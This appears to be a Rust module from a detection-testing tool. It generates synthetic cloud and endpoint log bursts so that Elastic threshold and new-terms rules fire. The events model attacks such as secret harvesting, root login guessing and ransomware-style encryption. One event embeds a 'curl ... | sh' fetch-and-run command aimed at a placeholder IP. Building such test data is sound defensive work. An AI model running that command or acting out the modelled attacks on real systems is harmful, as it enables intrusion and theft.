//! The bursts of [`Profile::Corpus`](super::Profile::Corpus): events on
//! which threshold and new_terms rules of Elastic's detection-rules corpus
//! alert, mixed into the endpoint events at fixed places of every round of
//! [`PERIOD`] events.
//!
//! Each burst is a template ([`Def`]): a dataset (the event's `_index` is
//! `logs-<dataset>-default`, its `data_stream` and `event.dataset` the
//! dataset), a base of fields shared by its source ([`BASES`]) and its own
//! fields, written as JSON objects with dotted keys (`"event.action"`)
//! that are expanded into nested objects; a `null` removes a base field.
//! String values may hold placeholders, filled per event ([`Vars`]):
//!
//! | placeholder | history event (h = 0, 1) | new term event (round r) | threshold event (round r, i = 1..n) |
//! | --- | --- | --- | --- |
//! | `{T}` | the event's time | same | same |
//! | `{E}` | `burst-base-r-s-h` | `burst-new-r-s` | `burst-thr-r-s-i` (s: the burst's place in [`DEFS`]) |
//! | `{V}` | `base0`, `base1` | `new<r>` | `thr<r>` |
//! | `{N}` (a number, unquoted) | 64512 + h | 4200000000 + r | 64999 |
//! | `{P}` (a public IPv4 address) | 81.2.69.(142 + h) | 89.160.(20 + r / 250).(1 + r % 250) | 185.220.101.(1 + r % 250) |
//! | `{L}` (a private IPv4 address) | 10.9.0.(10 + h) | 10.9.(1 + r / 250).(1 + r % 250) | 10.9.255.(1 + r % 250) |
//! | `{G}` (a GUID) | ...-00000000000h | ...-1 and r in 11 digits | ...-2 and r in 11 digits |
//! | `{D}` (a 12-digit account) | 210000000000 + h | 220000000000 + r | 123456789012 |
//! | `{C}`, `{Z}`, `{Q}` (country name, ISO code, region) | country h | country 2 + r % 10 | country i % 12 |
//! | `{S}` (a remote access tool's signer) | signer h | signer 2 + r % 18 | signer 0 |
//! | `{O}` (an operating system), `{W}` (a Kubernetes resource) | item h | item r | item i |
//! | `{I}`, `{K}` (unquoted) | h | 0 | i |
//! | `{R}` | r | r | r |
//!
//! A new terms burst ([`Shape::NewTerms`]) writes two history events at
//! [`HISTORY_AT`] events into the round and one event at [`NEW_AT`], about
//! sixteen minutes later: every round's history events hold the same values,
//! and each round's new event values no earlier event held, so from the
//! first round on the new event's term is new against a history that holds
//! the burst's other values. A threshold burst ([`Shape::Threshold`])
//! writes its events together at [`THRESHOLD_AT`], within a second.

use super::{iso, Rng};
use serde_json::{Map, Value};

/// Events from the start of one round of bursts to the next.
pub(super) const PERIOD: u64 = 50_000;
/// Where in a round the new terms bursts' history events come.
pub(super) const HISTORY_AT: u64 = 1_000;
/// Where in a round the threshold bursts come.
pub(super) const THRESHOLD_AT: u64 = 25_000;
/// Where in a round the new terms come: 47,500 events (about sixteen
/// minutes of event time) after their history, so that the history events
/// lie before the window of the first execution that sees the new term
/// (6 to 15 minutes back for all but a few rules).
pub(super) const NEW_AT: u64 = 48_500;

/// How a burst's events are laid out.
#[derive(Debug, Clone, Copy)]
enum Shape {
    /// Two history events, then, in each round, one with a new term.
    NewTerms,
    /// This many events together.
    Threshold(u32),
}

/// One burst: its layout, dataset, base ([`BASES`]) and fields.
struct Def {
    shape: Shape,
    dataset: &'static str,
    base: &'static str,
    fields: &'static str,
}

/// A new terms burst of `dataset`'s events.
const fn nt(dataset: &'static str, base: &'static str, fields: &'static str) -> Def {
    Def {
        shape: Shape::NewTerms,
        dataset,
        base,
        fields,
    }
}

/// A threshold burst of `n` of `dataset`'s events.
const fn thr(n: u32, dataset: &'static str, base: &'static str, fields: &'static str) -> Def {
    Def {
        shape: Shape::Threshold(n),
        dataset,
        base,
        fields,
    }
}

/// The fields every burst event has (`{DS}` is the dataset).
const COMMON: &str = r#"{"@timestamp":"{T}","_index":"logs-{DS}-default","data_stream.type":"logs","data_stream.dataset":"{DS}","data_stream.namespace":"default","ecs.version":"8.11.0","event.id":"{E}","event.kind":"event","event.dataset":"{DS}","event.ingested":"{T}"}"#;

/// The fields each source's events share.
const BASES: &[(&str, &str)] = &[
    ("none", "{}"),
    (
        "aws",
        r#"{"cloud.provider":"aws","cloud.region":"us-east-1","cloud.account.id":"123456789012","event.outcome":"success","user.name":"ops-{V}","user.id":"AIDAEXAMPLE{V}","source.ip":"{P}","source.address":"{P}","source.as.number":"{N}","source.as.organization.name":"Example Transit {V}","source.geo.country_iso_code":"{Z}","user_agent.original":"aws-cli/2.15.30 Python/3.11.8 Linux/6.1.79 exe/x86_64.ubuntu.22","aws.cloudtrail.event_type":"AwsApiCall","aws.cloudtrail.user_identity.type":"IAMUser","aws.cloudtrail.user_identity.arn":"arn:aws:iam::123456789012:user/ops-{V}","aws.cloudtrail.user_identity.access_key_id":"AKIAEXAMPLE{V}"}"#,
    ),
    (
        "azure",
        r#"{"cloud.provider":"azure","event.outcome":"success","source.ip":"{P}","source.as.number":"{N}","source.as.organization.name":"Example Transit {V}","source.geo.country_iso_code":"{Z}","source.geo.country_name":"{C}","user.name":"ops-{V}@example.com","azure.tenant_id":"e3b0c442-98fc-4c14-9afb-f4c8996fb924","azure.resource.group":"PROD"}"#,
    ),
    (
        "signin",
        r#"{"cloud.provider":"azure","event.outcome":"success","event.action":"Sign-in activity","event.category":["authentication"],"source.ip":"{P}","source.as.number":"{N}","source.as.organization.name":"Example Transit {V}","source.geo.country_iso_code":"{Z}","source.geo.country_name":"{C}","user.name":"ops-{V}@example.com","azure.signinlogs.category":"SignInLogs","azure.signinlogs.result_signature":"SUCCESS","azure.signinlogs.properties.user_principal_name":"ops-{V}@example.com","azure.signinlogs.properties.user_type":"Member","azure.signinlogs.properties.tenant_id":"e3b0c442-98fc-4c14-9afb-f4c8996fb924","azure.signinlogs.properties.status.error_code":0}"#,
    ),
    (
        "gcp",
        r#"{"cloud.provider":"gcp","cloud.project.id":"prod-web-417","event.outcome":"success","service.name":"k8s.io","source.ip":"{P}","source.as.number":"{N}","source.as.organization.name":"Example Transit {V}","client.user.email":"dev-{V}@example.com","user.email":"dev-{V}@example.com","user_agent.original":"kubectl/v1.29.1 (linux/amd64) kubernetes/bb8b2b1","orchestrator.cluster.name":"prod-gke"}"#,
    ),
    (
        "github",
        r#"{"event.category":["configuration"],"event.outcome":"success","source.ip":"{P}","github.actor_ip":"{P}","user.name":"dev-{V}","github.org":"example-org","github.org_id":"1234567"}"#,
    ),
    (
        "k8s",
        r#"{"source.ip":"{P}","user.name":"dev-{V}","user_agent.original":"kubectl/v1.29.1 (linux/amd64) {V}","kubernetes.audit.stage":"ResponseComplete","kubernetes.audit.verb":"get","kubernetes.audit.user.username":"dev-{V}","kubernetes.audit.user.groups":["system:authenticated"],"kubernetes.audit.annotations.authorization_k8s_io/decision":"allow","kubernetes.audit.objectRef.resource":"pods","kubernetes.audit.objectRef.namespace":"default","kubernetes.audit.requestURI":"/api/v1/namespaces/default/pods"}"#,
    ),
    (
        "o365",
        r#"{"cloud.provider":"azure","event.outcome":"success","event.provider":"AzureActiveDirectory","source.ip":"{P}","source.as.number":"{N}","source.geo.country_name":"{C}","source.geo.country_iso_code":"{Z}","source.geo.region_name":"{Q}","user.id":"ops-{V}@example.com","user.name":"ops-{V}","o365.audit.UserId":"ops-{V}@example.com","o365.audit.UserType":"0","o365.audit.ObjectId":"ops-{V}@example.com"}"#,
    ),
    (
        "okta",
        r#"{"event.outcome":"success","source.ip":"{P}","client.ip":"{P}","user.name":"ops-{V}@example.com","client.user.name":"ops-{V}@example.com","okta.actor.id":"00u{V}","okta.actor.type":"User","okta.actor.alternate_id":"ops-{V}@example.com","okta.actor.display_name":"Ops {V}","okta.outcome.result":"SUCCESS","okta.client.ip":"{P}","okta.client.user_agent.raw_user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36","user_agent.os.name":"Windows","okta.debug_context.debug_data.dt_hash":"dt{V}"}"#,
    ),
    (
        "gws",
        r#"{"event.outcome":"success","source.ip":"{P}","source.as.number":"{N}","user.email":"ops-{V}@example.com","user.name":"ops-{V}","organization.id":"C01abcd"}"#,
    ),
    (
        "net",
        r#"{"event.category":["network"],"event.type":["connection"],"network.transport":"tcp","network.type":"ipv4","source.ip":"{L}","source.port":51515,"destination.ip":"{P}","destination.port":443,"network.bytes":512,"network.packets":4}"#,
    ),
    (
        "winsec",
        r#"{"host.os.type":"windows","host.os.platform":"windows","host.name":"DC01","host.id":"host-dc01","winlog.channel":"Security","winlog.computer_name":"DC01.example.com","event.provider":"Microsoft-Windows-Security-Auditing","event.outcome":"success","user.name":"ops-{V}","winlog.event_data.SubjectUserName":"ops-{V}","winlog.event_data.SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-{N}","winlog.event_data.SubjectDomainName":"EXAMPLE"}"#,
    ),
    (
        "linux",
        r#"{"agent.type":"endpoint","event.module":"endpoint","host.id":"host-lnx-{V}","host.name":"lnx-{V}","host.hostname":"lnx-{V}","host.os.type":"linux","host.os.platform":"ubuntu","user.name":"deploy","user.id":"1001","event.category":["process"],"event.type":["start"],"event.action":"exec","process.pid":4242,"process.entity_id":"{E}","process.parent.pid":4200}"#,
    ),
    (
        "macos",
        r#"{"agent.type":"endpoint","event.module":"endpoint","host.id":"host-mac-{V}","host.name":"mac-{V}","host.hostname":"mac-{V}","host.os.type":"macos","host.os.platform":"darwin","user.name":"dev","user.id":"501","event.category":["process"],"event.type":["start"],"event.action":"exec","process.pid":4242,"process.entity_id":"{E}","process.parent.pid":4200}"#,
    ),
    (
        "windows",
        r#"{"agent.type":"endpoint","event.module":"endpoint","host.id":"host-win-{V}","host.name":"WIN-{V}","host.hostname":"WIN-{V}","host.os.type":"windows","host.os.platform":"windows","user.name":"ops","user.id":"S-1-5-21-1004336348-1177238915-682003330-1107","event.category":["process"],"event.type":["start"],"event.action":"start","process.pid":4242,"process.entity_id":"{E}","process.parent.pid":4200}"#,
    ),
];

/// The bursts, in the order each block writes them.
const DEFS: &[Def] = &[
    // AWS CloudTrail: API calls an identity makes for the first time.
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"s3.amazonaws.com","event.action":"PutBucketAcl","aws.cloudtrail.flattened.request_parameters.x-amz-acl":"public-read","aws.cloudtrail.flattened.request_parameters.bucketName":"exports-{V}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"s3.amazonaws.com","event.action":"GetObject","cloud.account.id":"anonymous","user.name":null,"user.id":null,"aws.cloudtrail.user_identity.type":"AWSAccount","aws.cloudtrail.user_identity.arn":null,"aws.cloudtrail.user_identity.access_key_id":null,"tls.client.server_name":"public-assets.s3.us-east-1.amazonaws.com"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"ec2.amazonaws.com","event.action":"GetPasswordData","event.outcome":"failure","aws.cloudtrail.error_code":"Client.UnauthorizedOperation","aws.cloudtrail.user_identity.type":"AssumedRole","aws.cloudtrail.user_identity.arn":"arn:aws:sts::123456789012:assumed-role/app-{V}/i-0a1b2c3d","aws.cloudtrail.user_identity.access_key_id":"ASIAEXAMPLE{V}","aws.cloudtrail.user_identity.session_context.session_issuer.arn":"arn:aws:iam::123456789012:role/app-{V}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"cognito-identity.amazonaws.com","event.action":"GetCredentialsForIdentity","aws.cloudtrail.user_identity.type":"Unknown","aws.cloudtrail.user_identity.access_key_id":null,"aws.cloudtrail.resources.arn":"arn:aws:cognito-identity:us-east-1:123456789012:identitypool/us-east-1:pool-{V}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"secretsmanager.amazonaws.com","event.action":"GetSecretValue","aws.cloudtrail.request_parameters":"{secretId=prod/db/password}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"ssm.amazonaws.com","event.action":"GetParameters","aws.cloudtrail.flattened.request_parameters.withDecryption":true,"aws.cloudtrail.flattened.request_parameters.names":["/prod/api/key"]}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"ec2.amazonaws.com","event.action":"CreateNetworkAclEntry","aws.cloudtrail.flattened.request_parameters.aclProtocol":"-1","aws.cloudtrail.flattened.request_parameters.ruleAction":"allow","aws.cloudtrail.flattened.request_parameters.networkAclId":"acl-{V}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"iam.amazonaws.com","event.action":"DeletePolicy","aws.cloudtrail.request_parameters":"{policyArn=arn:aws:iam::123456789012:policy/PermissionsBoundary}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"sts.amazonaws.com","event.action":"GetFederationToken"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"ec2.amazonaws.com","event.action":"DescribeInstanceAttribute","aws.cloudtrail.flattened.request_parameters.attribute":"userData","aws.cloudtrail.flattened.request_parameters.instanceId":"i-0{V}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"sts.amazonaws.com","event.action":"GetCallerIdentity"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"sts.amazonaws.com","event.action":"GetCallerIdentity","user.id":"AROAEXAMPLEROLE:i-0{V}","aws.cloudtrail.user_identity.type":"AssumedRole","aws.cloudtrail.user_identity.arn":"arn:aws:sts::123456789012:assumed-role/web-{V}/i-0{V}","aws.cloudtrail.user_identity.access_key_id":"ASIAEXAMPLE{V}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"iam.amazonaws.com","event.action":"ListUsers","source.as.number":9009,"source.as.organization.name":"M247 Europe SRL"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"organizations.amazonaws.com","event.action":"ListAccounts"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"ssm.amazonaws.com","event.action":"GetInventory"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"batch.amazonaws.com","event.action":"SubmitJob","aws.cloudtrail.request_parameters":"{jobName=nightly, jobQueue=default, containerOverrides={command=[sh, -c, curl -s http://203.0.113.7/x | sh]}}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"lambda.amazonaws.com","event.action":"Invoke","aws.cloudtrail.resources.arn":"arn:aws:lambda:us-east-1:123456789012:function:billing-export"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"cloudformation.amazonaws.com","event.action":"CreateStack"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"ssm.amazonaws.com","event.action":"CreateDocument","aws.cloudtrail.flattened.response_elements.documentDescription.documentType":"Command"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"ssm.amazonaws.com","event.action":"SendCommand"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"ssm.amazonaws.com","event.action":"StartSession"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"dynamodb.amazonaws.com","event.action":"Scan"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"dynamodb.amazonaws.com","event.action":"ExportTableToPointInTime"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"s3.amazonaws.com","event.action":"ListBuckets","user_agent.original":"S3 Browser/11.5.7 https://s3browser.com"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"sns.amazonaws.com","event.action":"Subscribe","aws.cloudtrail.flattened.request_parameters.protocol":"https"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"sns.amazonaws.com","event.action":"Publish","aws.cloudtrail.resources.arn":"arn:aws:sns:us-east-1:123456789012:alerts"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"sns.amazonaws.com","event.action":"CreateTopic"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"bedrock.amazonaws.com","event.action":"IngestKnowledgeBaseDocuments","cloud.account.id":"{D}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"bedrock.amazonaws.com","event.action":"UpdateAgent"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"bedrock.amazonaws.com","event.action":"PutResourcePolicy"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"bedrock.amazonaws.com","event.action":"AssociateAgentKnowledgeBase"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"s3.amazonaws.com","event.action":"PutObject","tls.client.server_name":"backups-{V}.s3.us-east-1.amazonaws.com","aws.cloudtrail.flattened.request_parameters.x-amz-server-side-encryption-customer-algorithm":"AES256"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"signin.amazonaws.com","event.action":"ConsoleLogin","aws.cloudtrail.event_type":"AwsConsoleSignIn","aws.cloudtrail.user_identity.access_key_id":null,"aws.cloudtrail.console_login.additional_eventdata.mfa_used":false,"user_agent.original":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"ec2.amazonaws.com","event.action":"ReplaceRoute"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"ec2.amazonaws.com","event.action":"CreateRoute"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"ec2.amazonaws.com","event.action":"CreateKeyPair"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"iam.amazonaws.com","event.action":"ListRoles","aws.cloudtrail.user_identity.access_key_id":"ASIAEXAMPLE{V}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"iam.amazonaws.com","event.action":"CreateUser","user.id":"AROAEXAMPLEROLE:i-0{V}","aws.cloudtrail.user_identity.type":"AssumedRole","aws.cloudtrail.user_identity.arn":"arn:aws:sts::123456789012:assumed-role/web-{V}/i-0{V}","aws.cloudtrail.user_identity.access_key_id":"ASIAEXAMPLE{V}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"iam.amazonaws.com","event.action":"CreateOpenIDConnectProvider"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"iam.amazonaws.com","event.action":"AttachRolePolicy","entity.target.id":"arn:aws:iam::123456789012:role/app-{V}","related.entity":["arn:aws:iam::123456789012:policy/app-admin","arn:aws:iam::123456789012:role/app-{V}"]}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"iam.amazonaws.com","event.action":"UpdateAssumeRolePolicy","entity.target.id":"arn:aws:iam::123456789012:role/app-{V}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"sts.amazonaws.com","event.action":"AssumeRole","aws.cloudtrail.flattened.request_parameters.serialNumber":"arn:aws:iam::123456789012:mfa/ops-{V}","aws.cloudtrail.resources.arn":"arn:aws:iam::123456789012:role/admin"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"sts.amazonaws.com","event.action":"AssumeRole","user.name":null,"user.id":null,"aws.cloudtrail.user_identity.type":"AWSService","aws.cloudtrail.user_identity.invoked_by":"ec2.amazonaws.com","aws.cloudtrail.user_identity.arn":null,"aws.cloudtrail.user_identity.access_key_id":null,"aws.cloudtrail.resources.arn":"arn:aws:iam::123456789012:role/app-{V}"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"sts.amazonaws.com","event.action":"AssumeRole","aws.cloudtrail.user_identity.type":"AssumedRole","aws.cloudtrail.user_identity.arn":"arn:aws:sts::123456789012:assumed-role/ci-{V}/build","aws.cloudtrail.user_identity.access_key_id":"ASIAEXAMPLE{V}","aws.cloudtrail.user_identity.session_context.session_issuer.arn":"arn:aws:iam::123456789012:role/ci-{V}","aws.cloudtrail.resources.arn":"arn:aws:iam::123456789012:role/prod-deploy"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"sts.amazonaws.com","event.action":"AssumeRoot","aws.cloudtrail.resources.account_id":"210987654321"}"#,
    ),
    nt(
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"s3.amazonaws.com","event.action":"ListBuckets","aws.cloudtrail.user_identity.type":"AssumedRole","aws.cloudtrail.user_identity.arn":"arn:aws:sts::123456789012:assumed-role/AgentCore-{V}/session","aws.cloudtrail.user_identity.access_key_id":"ASIAEXAMPLE{V}","aws.cloudtrail.user_identity.session_context.session_issuer.arn":"arn:aws:iam::123456789012:role/AgentCore-{V}"}"#,
    ),
    // AWS CloudTrail thresholds: secrets harvested, root password guessed,
    // assume-role policies probed, buckets enumerated, objects encrypted
    // with a customer key (ransomware).
    thr(
        20,
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"secretsmanager.amazonaws.com","event.action":"GetSecretValue","user.id":"AIDAEXAMPLEHARVEST","aws.cloudtrail.request_parameters":"{secretId=prod/app-{I}/credentials}"}"#,
    ),
    thr(
        10,
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"signin.amazonaws.com","event.action":"ConsoleLogin","event.outcome":"failure","user.name":"root","aws.cloudtrail.event_type":"AwsConsoleSignIn","aws.cloudtrail.user_identity.type":"Root","aws.cloudtrail.user_identity.arn":"arn:aws:iam::123456789012:root","aws.cloudtrail.user_identity.access_key_id":null,"aws.cloudtrail.error_message":"Failed authentication"}"#,
    ),
    thr(
        25,
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"iam.amazonaws.com","event.action":"UpdateAssumeRolePolicy","event.outcome":"failure","aws.cloudtrail.error_code":"MalformedPolicyDocumentException","aws.cloudtrail.request_parameters":"{roleName=probe-{I}}"}"#,
    ),
    thr(
        40,
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"s3.amazonaws.com","event.action":"GetObject","event.outcome":"failure","aws.cloudtrail.error_code":"AccessDenied","tls.client.server_name":"corp-data.s3.us-east-1.amazonaws.com","aws.cloudtrail.flattened.request_parameters.key":"reports/{I}.csv"}"#,
    ),
    thr(
        20,
        "aws.cloudtrail",
        "aws",
        r#"{"event.provider":"s3.amazonaws.com","event.action":"PutObject","tls.client.server_name":"finance-archive.s3.us-east-1.amazonaws.com","aws.cloudtrail.flattened.request_parameters.x-amz-server-side-encryption-customer-algorithm":"AES256","aws.cloudtrail.flattened.request_parameters.key":"ledger/{I}.csv"}"#,
    ),
    // Azure activity, sign-in, audit, platform and Graph logs.
    nt(
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.STORAGE/STORAGEACCOUNTS/WRITE","azure.activitylogs.operation_name":"MICROSOFT.STORAGE/STORAGEACCOUNTS/WRITE","azure.resource.name":"STPUBLIC{V}","azure.activitylogs.properties.responseBody":"{\"properties\":{\"allowBlobPublicAccess\":true}}"}"#,
    ),
    nt(
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION","azure.activitylogs.operation_name":"MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION","azure.activitylogs.identity.authorization.evidence.principal_type":"User","azure.activitylogs.identity.authorization.evidence.role":"Owner","azure.activitylogs.identity.authorization.evidence.principal_id":"{G}","azure.resource.name":"STPROD01"}"#,
    ),
    nt(
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/DELETE","azure.activitylogs.operation_name":"MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/DELETE","azure.resource.group":"RG-{V}"}"#,
    ),
    nt(
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE","azure.activitylogs.operation_name":"MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE","azure.resource.name":"VM-WEB-{V}"}"#,
    ),
    nt(
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMANDS/WRITE","azure.activitylogs.operation_name":"MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMANDS/WRITE","azure.activitylogs.identity.authorization.evidence.principal_id":"{G}","azure.resource.name":"VM-DB-01"}"#,
    ),
    nt(
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION","azure.activitylogs.operation_name":"MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION","azure.activitylogs.identity.authorization.evidence.principal_id":"{G}","azure.resource.name":"VM-DB-01"}"#,
    ),
    nt(
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.COMPUTE/RESTOREPOINTCOLLECTIONS/DELETE","azure.activitylogs.operation_name":"MICROSOFT.COMPUTE/RESTOREPOINTCOLLECTIONS/DELETE","azure.activitylogs.identity.claims_initiated_by_user.name":"ops-{V}@example.com"}"#,
    ),
    nt(
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.COMPUTE/SNAPSHOTS/DELETE","azure.activitylogs.operation_name":"MICROSOFT.COMPUTE/SNAPSHOTS/DELETE","azure.activitylogs.properties.status_code":"Accepted","azure.activitylogs.identity.claims_initiated_by_user.name":"ops-{V}@example.com"}"#,
    ),
    nt(
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.STORAGE/STORAGEACCOUNTS/DELETE","azure.activitylogs.operation_name":"MICROSOFT.STORAGE/STORAGEACCOUNTS/DELETE","azure.activitylogs.identity.claims_initiated_by_user.name":"ops-{V}@example.com","azure.resource.name":"STLOGS01"}"#,
    ),
    nt(
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.KEYVAULT/VAULTS/WRITE","azure.activitylogs.operation_name":"MICROSOFT.KEYVAULT/VAULTS/WRITE","azure.activitylogs.identity.claims_initiated_by_user.name":"ops-{V}@example.com","azure.resource.name":"KV-PROD"}"#,
    ),
    nt(
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.KUBERNETES/CONNECTEDCLUSTERS/LISTCLUSTERUSERCREDENTIAL/ACTION","azure.activitylogs.operation_name":"MICROSOFT.KUBERNETES/CONNECTEDCLUSTERS/LISTCLUSTERUSERCREDENTIAL/ACTION","azure.activitylogs.identity.claims.appid":"{G}"}"#,
    ),
    nt(
        "azure.activitylogs",
        "azure",
        r#"{"event.action":"MICROSOFT.SERIALCONSOLE/SERIALPORTS/CONNECT/ACTION","azure.activitylogs.operation_name":"MICROSOFT.SERIALCONSOLE/SERIALPORTS/CONNECT/ACTION","azure.activitylogs.identity.authorization.evidence.principal_id":"{G}"}"#,
    ),
    nt(
        "azure.signinlogs",
        "signin",
        r#"{"azure.signinlogs.properties.resource_id":"00000003-0000-0ff1-ce00-000000000000","azure.signinlogs.properties.resource_display_name":"Office 365 SharePoint Online","azure.signinlogs.properties.app_id":"{G}"}"#,
    ),
    nt(
        "azure.signinlogs",
        "signin",
        r#"{"event.outcome":"failure","azure.signinlogs.result_signature":"FAILURE","azure.signinlogs.properties.authentication_protocol":"ropc","azure.signinlogs.properties.status.error_code":700016,"azure.signinlogs.properties.app_id":"{G}"}"#,
    ),
    nt(
        "azure.signinlogs",
        "signin",
        r#"{"azure.signinlogs.properties.authentication_requirement":"singleFactorAuthentication","azure.signinlogs.properties.conditional_access_status":"notApplied","azure.signinlogs.properties.authentication_details":[{"authentication_method":"Password","succeeded":true}],"azure.signinlogs.properties.applied_conditional_access_policies":[{"display_name":"Require MFA","enforced_grant_controls":["Mfa"],"result":"notApplied"}],"azure.signinlogs.properties.resource_id":"00000003-0000-0000-c000-000000000000","azure.signinlogs.properties.resource_display_name":"Microsoft Graph","azure.signinlogs.properties.app_owner_tenant_id":"f8cdef31-a31e-4b4a-93e4-5f571e91255a","azure.signinlogs.properties.app_id":"1950a258-227b-4e31-a9cf-717495945fc2","azure.signinlogs.properties.is_interactive":false,"azure.signinlogs.properties.client_app_used":"Mobile Apps and Desktop clients"}"#,
    ),
    nt(
        "azure.signinlogs",
        "signin",
        r#"{"azure.signinlogs.category":"ServicePrincipalSignInLogs","azure.signinlogs.properties.client_credential_type":"federatedIdentityCredential","azure.signinlogs.properties.app_id":"{G}","azure.signinlogs.properties.service_principal_id":"{G}","azure.signinlogs.properties.app_owner_tenant_id":"e3b0c442-98fc-4c14-9afb-f4c8996fb924"}"#,
    ),
    nt(
        "azure.signinlogs",
        "signin",
        r#"{"azure.signinlogs.properties.authentication_protocol":"deviceCode","azure.signinlogs.properties.original_transfer_method":"deviceCodeFlow","azure.signinlogs.properties.app_id":"04b07795-8ddb-461a-bbee-02f9e1bf7b46","azure.signinlogs.properties.resource_id":"00000003-0000-0000-c000-000000000000"}"#,
    ),
    nt(
        "azure.signinlogs",
        "signin",
        r#"{"azure.signinlogs.properties.client_app_used":"IMAP4","azure.signinlogs.properties.app_id":"00000002-0000-0ff1-ce00-000000000000"}"#,
    ),
    nt(
        "azure.signinlogs",
        "signin",
        r#"{"azure.signinlogs.properties.authentication_protocol":"ropc","azure.signinlogs.properties.authentication_requirement":"singleFactorAuthentication","user_agent.original":"BAV2ROPC"}"#,
    ),
    nt(
        "azure.signinlogs",
        "signin",
